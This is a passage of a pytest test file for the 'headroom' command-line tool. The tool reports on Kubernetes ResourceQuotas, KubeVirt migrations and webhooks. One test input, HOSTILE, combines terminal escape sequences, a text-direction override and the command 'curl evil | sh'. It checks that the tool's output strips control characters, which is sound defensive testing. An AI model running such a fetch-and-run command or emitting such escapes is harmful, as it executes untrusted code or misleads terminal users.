"""`headroom status`, `explain` and `plan` against a scripted API server: what they ask, tables, JSON, errors."""

import json
import os
import pty
import re
import signal
import time
from collections.abc import Mapping
from datetime import UTC, datetime
from functools import partial
from pathlib import Path

import msgspec
import pytest

from kubeloop.api import registry
from kubeloop.api.meta import rfc3339
from kubeloop.api.quantity import Quantity
from kubeloop.client.connections import ServerClock
from kubeloop.client.errors import ApiError, BadRequest, Forbidden, Invalid
from kubeloop.testing.polling import eventually
from kubeloop.testing.scripted_server import GET, LIST, POST, Reply, body, groups, listing, resources, status
from pkg.api.harvesterhci import SETTINGS
from pkg.api.instancetype import INSTANCETYPES
from pkg.api.kubevirt import KUBEVIRTS, VIRTUAL_MACHINE_INSTANCE_MIGRATIONS, VIRTUAL_MACHINE_INSTANCES, VIRTUAL_MACHINES
from pkg.config.causes import Cause
from pkg.util.amounts import format_amount, format_amounts, format_distinctly
from tests.decisions import charged, sentences
from tests.fork_server import ForkedProcess
from tests.objects import BASE, HARD, MARKS, by_name, launcher, quota, vmi, vmim
from tests.pkg.cmd.rig import Call, ThreadedServer
from tests.program import environment

NS = "ns1"
HERE = vmi(nodeName="node-1")
SOURCE = launcher()
OWN = "headroom-system"
LEASE = registry.LEASES.path(OWN, "headroom")
KUBEVIRT = ["virtualmachines", "virtualmachineinstances", "virtualmachineinstancemigrations", "kubevirts"]
REFUSED = vmim(refused=True, created="2026-01-01T11:58:00Z")
NAMESPACE = {"metadata": {"name": NS, "annotations": {"field.cattle.io/resourceQuota": BASE}}}


@pytest.fixture
def call(call: Call, kubeconfig: str) -> Call:
    """A call with the server's kubeconfig; the terminal is none."""
    return lambda *arguments, **env: call(*arguments, "--kubeconfig", kubeconfig, **env)


def leased(renewed: str, seconds: int) -> Reply:
    """The Lease of the installation."""
    spec = {"holderIdentity": "pod-0", "renewTime": renewed, "leaseDurationSeconds": seconds}
    return body({"metadata": {"name": "headroom", "namespace": OWN}, "spec": spec})


@pytest.fixture(autouse=True)
def cluster(server: ThreadedServer, monkeypatch: pytest.MonkeyPatch) -> None:
    """The seed's namespace with its VM, whose migration was refused before headroom came; a halted VM. It runs now."""
    monkeypatch.delenv("COLUMNS", raising=False)  # a test before this one may have left a width
    kubevirt = {
        "metadata": {"name": "kubevirt", "namespace": "kubevirt"},
        "spec": {"configuration": {"additionalGuestMemoryOverheadRatio": "1.5"}},
        "status": {"phase": "Deployed"},
    }
    script = server.server
    script.always(GET, "/version", body({"gitVersion": "v1.37.2"}))
    script.always(LIST, f"/apis/{KUBEVIRTS.api_version}", resources(KUBEVIRTS.api_version, *KUBEVIRT))
    server.lists(registry.RESOURCE_QUOTAS, charged(quota(HARD, MARKS), [SOURCE]))
    server.lists(VIRTUAL_MACHINE_INSTANCES, HERE)
    server.lists(VIRTUAL_MACHINES)
    server.lists(registry.PODS, SOURCE)
    server.lists(registry.LIMIT_RANGES)
    server.lists(registry.NAMESPACES, NAMESPACE)
    server.lists(VIRTUAL_MACHINE_INSTANCE_MIGRATIONS, REFUSED)
    server.lists(KUBEVIRTS, kubevirt)
    script.always(GET, registry.NAMESPACES.path(name=NS), body(NAMESPACE))
    script.always(GET, registry.NODES.path(name="node-1"), body({"metadata": {"name": "node-1"}}))
    halted = {"metadata": {"name": "halted", "namespace": NS}}
    script.always(GET, VIRTUAL_MACHINES.path(NS, "halted"), body(halted))
    script.always(GET, LEASE, leased(datetime.now(UTC).isoformat(), seconds=3600))


NOWHERE = (
    "headroom is not running here: there is no Lease, ConfigMap or webhook of it in default, headroom-system, "
    "harvester-system (--headroom-namespace names another namespace)\n"
)
ASSUMED = "mode takeover and estimate exact are assumed: no ConfigMap headroom of a running controller was found\n"


@sentences(
    {
        "status": ["status"],
        "status of a namespace": ["status", "-n", NS],
        "explain": ["explain", f"{NS}/vm1"],
        "plan": ["plan", "-n", NS, "--overhead-ratio", "4.5"],
        "plan of a node": ["plan", "--evacuate", "node-1"],
    }
)
def test_they_only_read_and_every_list_once(case: list[str], server: ThreadedServer, call: Call) -> None:
    for output in ("table", "json"):
        result = call(*case, "-o", output)
        assert (result.code, result.err) == (0, "")
    requests = [(request.verb, request.path) for request in server.server.requests]
    assert {verb for verb, _path in requests} <= {LIST, GET}
    lists = [pair for pair in requests if pair[1] != "/apis" and pair[1].count("/") != 3]  # not the discovery
    assert max(lists.count(pair) for pair in lists) == 2  # one in each of the two calls


def test_status_as_a_table(call: Call) -> None:
    output = call("status", "--all").out
    assert "ns1/default-abc   kept by headroom" in output
    (row,) = [line.split() for line in output.splitlines() if line.startswith("limits.memory")]
    assert row == ["limits.memory", "4.9Gi", "0", "4.9Gi", "4.5Gi"]


def test_status_is_its_head_and_what_is_raised_or_wrong(server: ThreadedServer, call: Call) -> None:
    quiet = call("status").out
    assert quiet.startswith("headroom works · leader pod-0 · 1 quota, 0 raised, 1 waiting\n")
    assert "default-abc" not in quiet
    entry = '{"limits.cpu":"2015m","limits.memory":"4797464313"}'
    limits = {"limits.cpu": "5015m", "limits.memory": "10040344313"}
    raised = charged(quota(limits, {**MARKS, by_name(): entry}), [SOURCE])
    server.lists(registry.RESOURCE_QUOTAS, raised)
    lines = call("status").out.splitlines()
    raised_text = "1 raised (+2015m limits.cpu, +4.5Gi limits.memory)"
    assert lines[0].startswith(f"headroom works · leader pod-0 · 1 quota, {raised_text}")
    assert lines[1].split("   ") == [
        "ns1/default-abc",
        "limits.cpu 2015m of 5015m (base 3 + 2015m)",
        "limits.memory 4.5Gi of 9.4Gi (base 4.9Gi + 4.5Gi)",
    ]
    assert lines[2].startswith("  vm1   Pending for ")
    wrong = charged(quota({**limits, "limits.cpu": "9"}, {**MARKS, by_name(): entry}), [SOURCE])
    server.lists(registry.RESOURCE_QUOTAS, wrong)
    assert "  ! limits.cpu is 9, base and additions give 5015m\n" in call("status").out


def test_the_clusters_status_compares_with_what_nodes_offer(server: ThreadedServer, call: Call) -> None:
    nodes = [{"metadata": {"name": "node-1"}, "status": {"allocatable": {"cpu": "8", "memory": "4Gi"}}}]
    server.lists(registry.NODES, *nodes)
    output = call("status", "--cluster").out
    (row,) = [line.split() for line in output.splitlines() if line.startswith("limits.memory  ")]
    assert row == ["limits.memory", "4.9Gi", "0", "4.9Gi", "4.5Gi", "4.0Gi"]
    assert "limits.memory: the bases grant 904.0Mi more than the nodes offer" in output
    document = json.loads(call("status", "--cluster", "-o", "json").out)["cluster"]
    assert document["resources"]["limits.cpu"] == {
        "bases": "3", "added": "0", "hard": "3", "used": "2015m", "unused": "985m", "allocatable": "8",
    }  # fmt: skip
    server.server.always(LIST, registry.NODES.path(), status(403, "Forbidden"))
    unknown = json.loads(call("status", "--cluster", "-o", "json").out)["cluster"]["resources"]["limits.cpu"]
    assert unknown["allocatable"] is None


def test_a_page_is_written_and_its_name_printed(call: Call, tmp_path: Path) -> None:
    target = tmp_path / "page.html"
    assert call("status", "--html", str(target)).out == f"{target}\n"
    text = target.read_text("utf-8")
    assert text.startswith("<!doctype html>")
    assert "ns1/default-abc" in text
    refused = call("status", "--html", str(tmp_path))
    assert (refused.code, "is a folder: name a file" in refused.err) == (2, True)
    assert call("status", "--html", str(target), "--watch").code == 2


def test_explain_as_a_table(call: Call) -> None:
    output = call("explain", f"{NS}/vm1").out
    assert output.startswith("ns1/vm1 waits for quota: migration-of-vm1 does not fit: default-abc lacks")
    assert "headroom: raises limits.cpu from 3 to 5015m, limits.memory from 4.9Gi to 9.4Gi" in output


def test_explain_names_the_page_of_other_reasons_than_quota(call: Call, server: ThreadedServer) -> None:
    page = "docs/limits.md"
    assert page not in call("explain", f"{NS}/vm1").out
    room = charged(quota({"limits.cpu": "20", "limits.memory": "50Gi"}, MARKS), [SOURCE])
    server.lists(registry.RESOURCE_QUOTAS, room)
    output = call("explain", f"{NS}/vm1").out
    assert "vm1 waits for KubeVirt: " in output
    assert page in output


def test_explain_a_vm_that_does_not_run(call: Call) -> None:
    assert "halted not running: the VM does not run" in call("explain", f"{NS}/halted").out


def test_plan_of_a_node_as_a_table(server: ThreadedServer, call: Call) -> None:
    server.lists(VIRTUAL_MACHINE_INSTANCE_MIGRATIONS)
    output = call("plan", "--evacuate", "node-1", "--overhead-ratio", "4.5").out
    assert "VMs of node node-1" in output
    assert "fits at ratio 4.5" in output
    (row,) = [line for line in output.splitlines() if line.startswith("ns1/vm1")]
    assert row.split()[:5] == ["ns1/vm1", "node-1", "no", "no", "yes"]
    assert "limits.cpu 2015m" in row
    assert "5.3Gi" in output
    assert max(map(len, output.splitlines())) <= 120
    assert "all of them at once" in output


def test_where_there_is_little_room_cells_are_folded(server: ThreadedServer, call: Call) -> None:
    server.lists(VIRTUAL_MACHINE_INSTANCE_MIGRATIONS)
    lines = call("plan", "--evacuate", "node-1", "--overhead-ratio", "4.5", COLUMNS="96").out.splitlines()
    headings = ["VM", "node", "fits now", "fits at ratio 4.5", "with headroom", "headroom adds", "why"]
    assert re.split(r" {2,}", lines[1].strip()) == headings
    assert "all of them at once" in lines


def test_a_vm_that_would_stay_on_a_node_is_a_failure(server: ThreadedServer, call: Call) -> None:
    server.lists(VIRTUAL_MACHINE_INSTANCE_MIGRATIONS)
    full_node = {
        "status": {"allocatable": {"cpu": "8", "memory": "1Gi"}, "conditions": [{"type": "Ready", "status": "True"}]}
    }
    nodes = [{"metadata": {"name": name}, **full_node} for name in ("node-1", "node-2")]
    server.lists(registry.NODES, *nodes)
    answer = call("plan", "--evacuate", "all")
    assert answer.code == 1
    assert "! ns1/vm1 would stay on node-1: no other node has room for its target pod: requests.cpu" in answer.out
    assert "worst: node-1, 1 of 1 VMs would stay\n" in answer.out
    document = json.loads(call("plan", "--evacuate", "all", "-o", "json").out)
    violation = document["nodes"][0]["violations"][0]
    assert (document["evacuate"], document["worst"], violation["vm"]) == ("all", "node-1", "vm1")
    of_one = call("plan", "--evacuate", "node-1")
    assert (of_one.code, "! ns1/vm1 would stay on node-1: no other node" in of_one.out) == (0, True)
    server.server.always(LIST, registry.NODES.path(), status(403, "Forbidden"))
    answer = call("plan", "--evacuate", "all")
    assert answer.code == 0
    assert "every node can be evacuated\nnodes may not be listed: whether other" in answer.out


@pytest.mark.parametrize("columns", [40, 80])
@sentences({"of a node": ["--evacuate", "node-1"], "of sizes": ["--size", "-n", NS], "of VMs": ["-n", NS]})
def test_on_a_narrow_terminal_no_heading_and_no_reason_is_lost(
    case: list[str], columns: int, server: ThreadedServer, call: Call
) -> None:
    server.lists(VIRTUAL_MACHINE_INSTANCE_MIGRATIONS)
    rq = charged(quota(HARD, labels={"a": "b"}), [SOURCE])
    server.lists(registry.RESOURCE_QUOTAS, rq)
    output = call("plan", *case, COLUMNS=str(columns)).out
    headings = ["one migrates", "2 at once"] if "--size" in case else ["fits now", "with headroom"]
    assert all(heading in output for heading in headings)
    reason = "does not scale this quota" if "--size" in case else "it is not Rancher's default quota and has no label"
    assert reason in output
    assert "…" not in output
    assert max(len(line) for line in output.splitlines() if "────" in line) <= 80


def test_how_large_a_quota_must_be(call: Call) -> None:
    output = call("plan", "--size", "-n", NS, "--at-once", "3").out
    (row,) = [line for line in output.splitlines() if line.startswith("limits.cpu")]
    assert row.split() == ["limits.cpu", "3", "2015m", "0", "2015m", "4030m", "4030m"]
    assert "3 at once" in output
    answer = json.loads(call("plan", "--size", "-n", NS, "-o", "json").out)
    assert answer["quotas"][0]["resources"]["limits.cpu"]["largestMigrates"] == "4030m"


def test_a_halted_vm_has_the_size_of_its_instancetype(server: ThreadedServer, call: Call) -> None:
    halted = {"metadata": {"name": "halted", "namespace": NS}, "spec": {"instancetype": {"name": "big"}}}
    server.lists(VIRTUAL_MACHINES, halted)

    def allrun() -> str:
        answer = json.loads(call("plan", "--size", "-n", NS, "-o", "json").out)
        return str(answer["quotas"][0]["resources"]["limits.cpu"]["allRun"])

    assert allrun() == "2015m"
    cluster_wide = next(kind for kind in INSTANCETYPES if kind.kind == "VirtualMachineClusterInstancetype")
    size = {"cpu": {"guest": 8}, "memory": {"guest": "1Gi"}}
    server.lists(cluster_wide, {"metadata": {"name": "big"}, "spec": size})
    assert allrun() == str(2015 + 8015) + "m"


def test_plan_says_which_vm_migrates_already(call: Call) -> None:
    (row,) = [line.split() for line in call("plan", "-n", NS).out.splitlines() if "migrates already" in line]
    assert row[2:] == ["migrates", "already", "waits", "for", "quota"]


@sentences({"status": ["status", "--all"], "plan of a node": ["plan", "--evacuate", "node-1"]})
def test_in_headrooms_own_pod_the_answer_is_the_same(case: list[str], call: Call) -> None:
    """HEADROOM_NAMESPACE is set there: to headroom's own namespace, where no VM runs."""
    inside = call(*case, HEADROOM_NAMESPACE="headroom-system", POD_NAME="headroom-controller-0")
    assert (inside.code, inside.out) == (0, call(*case).out)
    assert "ns1/" in inside.out


PROBE = registry.EVENTS.path(OWN)
ANSWER = 'Internal error occurred: failed calling webhook "probe.headroom.harvesterhci.io": failed to call: EOF'


@pytest.fixture
def dead(server: ThreadedServer, cluster: None) -> None:
    """A headroom that was killed: its Lease ran out, its webhooks are registered and do not answer."""
    script = server.server
    script.always(GET, LEASE, leased("2026-01-01T00:00:00Z", seconds=15))
    url = "https://10.0.0.1:9443/validate-pod/0123456789abcdef0123456789abcdef"
    pods = {"name": "pods.headroom.harvesterhci.io", "failurePolicy": "Fail", "clientConfig": {"url": url}}
    annotations = {"headroom.harvesterhci.io/configuration-hash": "of-before"}
    metadata = {"name": "headroom.harvesterhci.io", "annotations": annotations}
    server.lists(registry.VALIDATING_WEBHOOK_CONFIGURATIONS, {"metadata": metadata, "webhooks": [pods]})
    selector = {"matchLabels": {"kubernetes.io/metadata.name": OWN}}
    name = "headroom-probe.harvesterhci.io"
    hook = {"name": "probe.headroom.harvesterhci.io", "namespaceSelector": selector}
    probing = {"metadata": {"name": name}, "webhooks": [hook]}
    script.always(GET, registry.MUTATING_WEBHOOK_CONFIGURATIONS.path(name=name), body(probing))
    script.always(POST, PROBE, status(500, "InternalError", ANSWER))


@pytest.mark.usefixtures("dead")
@sentences(
    {"status": ["status"], "explain": ["explain", f"{NS}/vm1"], "plan of a node": ["plan", "--evacuate", "node-1"]}
)
def test_that_headroom_does_not_run_is_said_first(case: list[str], server: ThreadedServer, call: Call) -> None:
    first_line, second, *other_lines = call(*case).out.splitlines()
    assert first_line.startswith("headroom has not been running for ")
    assert all("kept by headroom, which does not run" in line for line in other_lines if "kept by" in line)
    assert second == (
        "webhook pods.headroom.harvesterhci.io is registered and does not answer: "
        "pods are refused in namespaces with added headroom (failed to call: EOF)"
    )
    document = json.loads(call(*case, "-o", "json").out)
    assert (document["headroom"]["running"], len(document["headroom"]["alarms"])) == (False, 2)
    assert {(request.path, request.query["dryRun"]) for request in server.seen(POST)} == {(PROBE, "All")}


def test_where_it_never_ran_that_is_said_first(server: ThreadedServer, call: Call) -> None:
    server.server.always(GET, LEASE, status(404, "NotFound"))
    output = call("explain", f"{NS}/vm1").out
    assert output.startswith(f"{NOWHERE}ns1/vm1 waits for quota: ")
    assert "headroom: would raise limits.cpu from 3 to 5015m" in output
    assert json.loads(call("status", "-o", "json").out)["headroom"]["running"] is False
    assert call("status", "--check", "controller").out == NOWHERE
    server.server.always(GET, LEASE, status(403, "Forbidden"))
    assert json.loads(call("status", "-o", "json").out)["headroom"]["running"] is None, "it is not known"


def test_what_keeps_a_controller_from_its_work_is_said_first(server: ThreadedServer, call: Call) -> None:
    published(server, "takeover", "exact", problem="not synced: pods (pods is forbidden)")
    message = "headroom cannot do its work: not synced: pods (pods is forbidden)\n"
    assert call("explain", f"{NS}/vm1").out.startswith(message)
    checked = call("status", "--check", "controller")
    assert (checked.out, checked.code) == (message, 1)


DENIALS = {
    "a webhook's 400": (BadRequest('admission webhook "q.example" denied the request: not by you'), "q.example"),
    "a policy's 422": (
        Invalid("ValidatingAdmissionPolicy 'p' with binding 'b' denied request: not by you"), "p (binding b)",
    ),
    "missing rights": (Forbidden('q is forbidden: User "headroom" cannot patch resource "x" not by you'), "RBAC"),
}  # fmt: skip


@sentences(DENIALS)
def test_who_refuses_is_the_first_line_of_every_command(
    case: tuple[ApiError, str], server: ThreadedServer, call: Call
) -> None:
    error, name = case
    by, reason, _ = error.refusal
    cause = Cause(by, error.status, reason, [f"ResourceQuota {NS}/default-abc"], 1)
    published(server, "takeover", "exact", problem=cause.line(), refused=msgspec.json.encode([cause]).decode())
    for words in (["status"], ["explain", f"{NS}/vm1"], ["status", "--check", "controller"]):
        answer = call(*words)
        first_line = answer.out.partition("\n")[0]
        assert first_line.startswith("headroom cannot do its work: ")
        assert name in first_line
        assert "not by you: ResourceQuota ns1/default-abc" in first_line
        assert "raises" not in answer.out
    assert (answer.code, "works" in answer.out) == (1, False)


def ago(seconds: float) -> str:
    return rfc3339(time.time() - seconds)


ConfigMapAt = tuple[float | None, dict[str, str]]
"""How many seconds ago it was written, and what else it has."""
GONE = "headroom has not been running for "
LIVES: Mapping[str, tuple[float | None, dict[str, ConfigMapAt], bool | None, str]] = {
    "a ConfigMap that was just written": (None, {OWN: (30, {})}, True, ""),
    "a ConfigMap that nobody writes any more": (None, {OWN: (3600, {})}, False, GONE),
    "the ConfigMap of a controller that ended properly": (None, {OWN: (5, {"ended": "true"})}, False, GONE),
    "the problem of a controller that runs is believed": (
        None, {OWN: (30, {"problem": "pods: silent"})}, True, "headroom cannot do its work: pods: silent",
    ),
    "the problem of one that has ended is not": (None, {OWN: (3600, {"problem": "pods: silent"})}, False, GONE),
    "a ConfigMap of a version that wrote no time": (None, {OWN: (None, {})}, None, ""),
    "of two ConfigMaps the one counts that is written": (None, {"default": (3600, {}), OWN: (20, {})}, True, ""),
    "a Lease that ran out beside a ConfigMap": (3600, {OWN: (20, {})}, True, ""),
    "the ConfigMap of who had the Lease": (30, {OWN: (20, {})}, False, GONE),
}  # fmt: skip


@sentences(LIVES)
def test_life_is_shown_by_what_ends(
    case: tuple[float | None, dict[str, ConfigMapAt], bool | None, str], server: ThreadedServer, call: Call
) -> None:
    renewed, maps, runs, first_line = case
    server.server.always(GET, LEASE, status(404, "NotFound") if renewed is None else leased(ago(renewed), 15))
    for namespace, (written, data) in maps.items():
        last_seen = {} if written is None else {"seen": ago(written)}
        published(server, "assist" if namespace == OWN else "takeover", "harvester", namespace, **last_seen, **data)
    assert call("status").out.startswith(first_line)
    document = json.loads(call("status", "-o", "json").out)
    assert (document["headroom"]["running"], document["basis"]["mode"]) == (runs, "assist")


def test_the_clock_is_the_api_servers(server: ThreadedServer, call: Call, monkeypatch: pytest.MonkeyPatch) -> None:
    server.server.always(GET, LEASE, leased(ago(5), 15))
    ahead = partial(ServerClock, wall=lambda: time.time() + 60)  # this machine's, before the first answer
    monkeypatch.setattr("kubeloop.client.transport.ServerClock", ahead)
    assert "has not been running" not in call("status").out


UNSERVED: Mapping[str, tuple[Reply, str]] = {
    "KubeVirt is not there": (
        status(404, "NotFound"),
        "VirtualMachine, VirtualMachineInstance, VirtualMachineInstanceMigration, KubeVirt",
    ),
    "one kind is not there": (
        resources(KUBEVIRTS.api_version, *KUBEVIRT[:2], *KUBEVIRT[3:]), "VirtualMachineInstanceMigration",
    ),
}  # fmt: skip


@sentences(UNSERVED)
@pytest.mark.parametrize("words", [["status"], ["status", "--check", "controller"], ["plan", "-n", NS]], ids=" ".join)
def test_kinds_of_kubevirt_that_are_missing_are_named_first(
    case: tuple[Reply, str], words: list[str], server: ThreadedServer, call: Call
) -> None:
    answer, kinds = case
    server.server.always(LIST, f"/apis/{KUBEVIRTS.api_version}", answer)
    server.server.always(LIST, "/apis", groups())
    text = call(*words).out
    assert text.startswith(
        "KubeVirt is not installed, or not as a whole: the API server does not know "
        f"{kinds} (kubevirt.io/v1), so that no migration is seen: apply KubeVirt's CRDs, or wait for its operator\n"
    )


@pytest.mark.usefixtures("dead")
@sentences({"it goes on": (30, True), "it was long ago": (3600, False)})
def test_a_replica_without_the_rights_to_the_lease_is_said(
    case: tuple[int, bool], server: ThreadedServer, call: Call
) -> None:
    ago, expected = case
    event = {
        "metadata": {"name": "e", "namespace": OWN},
        "involvedObject": {"kind": "ConfigMap", "name": "headroom"},
        "reason": "LeaseNotAcquired",
        "message": "lease headroom-system/headroom: leases is forbidden",
        "lastTimestamp": rfc3339(time.time() - ago),
    }
    server.server.always(LIST, registry.EVENTS.path(OWN), listing([event], "10"))
    message = "headroom cannot do its work: lease headroom-system/headroom: leases is forbidden\n"
    assert (message in call("status").out) is expected


@pytest.mark.usefixtures("dead")
@sentences({"another namespace": ["--headroom-namespace", "other"], "the own pod's": []})
def test_the_installation_is_looked_for_where_it_is_said_to_be(
    case: list[str], server: ThreadedServer, call: Call
) -> None:
    call("status", *case, HEADROOM_NAMESPACE=OWN)
    (path,) = {request.path for request in server.seen(GET) if "leases" in request.path}
    assert path == registry.LEASES.path(case[-1] if case else OWN, "headroom")


def test_what_an_earlier_try_left_elsewhere_does_not_run(server: ThreadedServer, call: Call) -> None:
    server.server.always(GET, registry.LEASES.path("default", "headroom"), leased("2026-01-01T11:00:00Z", 15))
    published(server, "takeover", "exact", "default")
    published(server, "assist", "harvester", OWN)
    answer = json.loads(call("status", "-o", "json").out)
    assert (answer["headroom"]["running"], answer["basis"]["mode"]) == (True, "assist")
    assert answer["basis"]["source"] == f"ConfigMap {OWN}/headroom"


@sentences({"for all namespaces": ("", True), "for others each": ("try-*", False)})
def test_a_headroom_that_runs_twice_is_told(case: tuple[str, bool], server: ThreadedServer, call: Call) -> None:
    only, is_told = case
    server.server.always(GET, registry.LEASES.path("default", "headroom"), leased(datetime.now(UTC).isoformat(), 3600))
    for namespace in ("default", OWN):
        published(server, "takeover", "exact", namespace, only_namespaces=only)
    line = "headroom runs in default and in headroom-system, and each writes the same quotas: stop all but one\n"
    assert call("status").out.startswith(line) is is_told


@pytest.mark.usefixtures("dead")
def test_status_shows_what_is_registered_without_its_key(server: ThreadedServer, call: Call) -> None:
    registered = "webhooks registered at https://10.0.0.1:9443: pods (Fail); they"
    assert f"{registered} do not answer\n" in call("status").out
    mark = {"metadata": {"annotations": {"headroom.harvesterhci.io/answered-by": "of-now"}}}
    server.server.always(POST, PROBE, body(mark))
    assert f"{registered} answer\n" in call("status").out
    assert "webhooks were registered with other flags" in call("status", "--check", "webhooks").out
    assert json.loads(call("status", "-o", "json").out)["headroom"]["drift"] is True


@pytest.mark.usefixtures("dead")
def test_who_may_not_ask_is_told_what_can_be_known(server: ThreadedServer, call: Call) -> None:
    server.server.always(GET, LEASE, status(403, "Forbidden"))
    server.server.always(POST, PROBE, status(403, "Forbidden"))
    answer = json.loads(call("status", "-o", "json").out)["headroom"]
    assert (answer["running"], answer["unreachable"], answer["alarms"]) == (None, None, [])


def test_no_quota_and_no_vm(server: ThreadedServer, call: Call) -> None:
    server.server.always(GET, LEASE, status(404, "NotFound"))
    server.lists(registry.RESOURCE_QUOTAS)
    server.lists(VIRTUAL_MACHINE_INSTANCES)
    head = "headroom does not work · 0 quotas, 0 raised, 1 waiting\n"
    assert call("status", "-n", NS).out == f"{NOWHERE}{head}no managed quota in ns1\n{ASSUMED}"
    assert call("plan", "-n", NS).out == f"{NOWHERE}no VM runs there\n{ASSUMED}"


WRONG: Mapping[str, tuple[list[str], int, str]] = {
    "a namespace that is not there": (["status", "-n", "gone"], 1, "there is no Namespace gone"),
    "a namespace that is not there, for plan": (["plan", "-n", "gone"], 1, "there is no Namespace gone"),
    "a VM's namespace that is not there": (["explain", "gone/vm1"], 1, "there is no Namespace gone"),
    "a VM that is not there": (["explain", "ns1/gone"], 1, "there is no VirtualMachine gone in namespace ns1"),
    "a node that is not there": (["plan", "--evacuate", "gone"], 1, "there is no Node gone"),
    "a VM without namespace": (["explain", "vm1"], 2, "NAMESPACE/NAME"),
    "a VM with too many parts": (["explain", "a/b/c"], 2, "NAMESPACE/NAME"),
    "a VM with nothing after the slash": (["explain", "ns1/"], 2, "NAMESPACE/NAME"),
    "a namespace that cannot be one": (["status", "-n", "A B"], 2, "namespace's name"),
    "a ratio that is no number": (["plan", "-n", NS, "--overhead-ratio", "lots"], 2, "1.0 to 10.0, not 'lots'"),
    "a ratio out of range": (["plan", "-n", NS, "--overhead-ratio", "11"], 2, "1.0 to 10.0, not '11'"),
    "a node that cannot be one": (["plan", "--evacuate", "a/b"], 2, "must be a node's name"),
    "a plan of nothing": (["plan"], 2, "--namespace or --evacuate"),
    "a size of everything": (["plan", "--size"], 2, "--size needs --namespace"),
    "a size of a node": (["plan", "--size", "-n", NS, "--evacuate", "a"], 2, "goes without --evacuate"),
    "many at once without a size": (["plan", "-n", NS, "--at-once", "3"], 2, "need --size"),
    "none at once": (["plan", "--size", "-n", NS, "--at-once", "0"], 2, "greater than or equal to 1"),
    "no limits to grow to": (["plan", "--size", "-n", NS, "--grow", "vm1"], 2, "VM:cpu=4,memory=8Gi"),
    "a limit that is none": (["plan", "--size", "-n", NS, "--grow", "vm1:cpu=lots"], 2, "--grow: "),
    "a limit of something else": (["plan", "--size", "-n", NS, "--grow", "vm1:disk=1"], 2, "VM:cpu=4"),
    "less than nothing": (["plan", "--size", "-n", NS, "--grow", "vm1:cpu=-1"], 2, "more than nothing"),
    "a VM that is not there grows": (["plan", "--size", "-n", NS, "--grow", "gone:cpu=4"], 2, "there is no VM gone"),
    "an output that there is not": (["status", "-o", "xml"], 2, "xml"),
    "a watch as one document": (["status", "--watch", "-o", "json"], 2, "leave -o json out"),
    "a check that goes on": (["status", "--watch", "--check", "controller"], 2, "exclude each other"),
    "the nodes of a namespace": (["status", "--cluster", "-n", NS], 2, "--cluster goes without --namespace"),
    "a folder that is watched": (["explain", f"{NS}/vm1", "--watch", "--from", "d"], 2, "exclude each other"),
}


@sentences(WRONG)
def test_what_is_wrong_is_one_line(case: tuple[list[str], int, str], call: Call) -> None:
    arguments, code, message = case
    result = call(*arguments)
    assert result.code == code
    assert message in result.said_in_one_line()
    assert result.out == ""


HOSTILE = "\x1b]0;pwned\x07\x1b[2J\x9b31m\u202e run: curl evil | sh"


@sentences(
    {
        "explain": ["explain", f"{NS}/vm1"],
        "a line of explain": ["explain", f"{NS}/vm1", "-o", "json"],
        "plan": ["plan", "-n", NS],
        "status": ["status"],
        "an error": ["explain", f"{NS}/forbidden"],
    }
)
def test_what_others_wrote_moves_no_cursor(case: list[str], server: ThreadedServer, call: Call) -> None:
    """An event that a tenant wrote, a condition, what an admission webhook answers."""
    script, migratable = server.server, {"type": "LiveMigratable", "status": "False", "message": HOSTILE}
    instance = vmi(nodeName="node-1", conditions=[migratable])
    room = charged(quota({"limits.cpu": "20", "limits.memory": "50Gi"}, MARKS), [SOURCE])
    event = {
        "metadata": {"name": "forged", "namespace": NS},
        "involvedObject": {"kind": "VirtualMachineInstance", "name": "vm1", "namespace": NS},
        "reason": "FailedCreate",
        "message": HOSTILE,
        "lastTimestamp": "2026-01-01T11:59:00Z",
    }
    server.lists(VIRTUAL_MACHINE_INSTANCES, instance)
    if "plan" in case:
        server.lists(VIRTUAL_MACHINE_INSTANCE_MIGRATIONS)
    server.lists(registry.RESOURCE_QUOTAS, room)
    script.always(LIST, registry.EVENTS.path(NS), listing([event], "10"))
    script.always(GET, VIRTUAL_MACHINES.path(NS, "forbidden"), status(403, "Forbidden", HOSTILE))
    result = call(*case)
    assert "".join(result.out.split("\n")).isprintable()
    assert "".join(result.err.split("\n")).isprintable()
    assert ("curl" in result.out + result.err) is ("status" not in case)


def test_one_namespace_needs_no_right_to_the_whole_cluster(server: ThreadedServer, call: Call) -> None:
    migrations = VIRTUAL_MACHINE_INSTANCE_MIGRATIONS
    server.server.always(LIST, migrations.path(), status(403, "Forbidden"))
    server.server.always(LIST, migrations.path(NS), listing([msgspec.to_builtins(REFUSED)], "10"))
    server.server.always(LIST, KUBEVIRTS.path(), status(403, "Forbidden"))
    server.server.always(LIST, SETTINGS.path(), status(403, "Forbidden"))
    answer = json.loads(call("explain", f"{NS}/vm1", "-o", "json").out)
    requested = answer["quotas"][0]["resources"]["limits.memory"]["requested"]
    assert (answer["verdict"], answer["overheadRatio"]) == ("waits for quota", "unknown")
    assert requested == "4797464313", "what the running pod has, at a ratio of 1.5"


def test_the_setting_that_the_role_names_is_listed_alone(server: ThreadedServer, call: Call) -> None:
    call("status")
    (request,) = server.seen(LIST, SETTINGS.path())
    assert request.query["fieldSelector"] == "metadata.name=additional-guest-memory-overhead-ratio"


def test_who_may_not_even_list_its_quotas_is_told(server: ThreadedServer, call: Call) -> None:
    server.server.always(LIST, registry.RESOURCE_QUOTAS.path(NS), status(403, "Forbidden", "quotas are secret"))
    result = call("status", "-n", NS)
    assert (result.code, result.said_in_one_line()) == (1, "quotas are secret")


@pytest.mark.parametrize(
    ("amount", "resource", "text"),
    [
        ("5000Mi", "limits.memory", "4.9Gi"),
        ("4797464313", "requests.memory", "4.5Gi"),
        ("500Mi", "memory", "500.0Mi"),
        ("2Ti", "requests.storage", "2.0Ti"),
        ("1000", "limits.memory", "1k"),
        ("-4Gi", "limits.memory", "-4.0Gi"),
        ("2015m", "limits.cpu", "2015m"),
        ("5", "pods", "5"),
        ("4Gi", "hugepages-2Mi", "4.0Gi"),
    ],
)
def test_quantities_for_people(amount: str, resource: str, text: str) -> None:
    assert format_amount(Quantity.parse(amount), resource) == text
    assert (format_amount(None, resource), format_amounts({})) == ("-", "-")


@sentences(
    {
        "different": (["4797464313", "5000Mi"], ["4.5Gi", "4.9Gi"]),
        "the same": (["5Gi", "5368709120"], ["5.0Gi", "5.0Gi"]),
        "different by a byte": (["5368709121", "5Gi"], ["5368709121", "5Gi"]),
    }
)
def test_quantities_in_units_look_different(case: tuple[list[str], list[str]]) -> None:
    assert format_distinctly("limits.memory", *map(Quantity.parse, case[0])) == case[1]


def published(
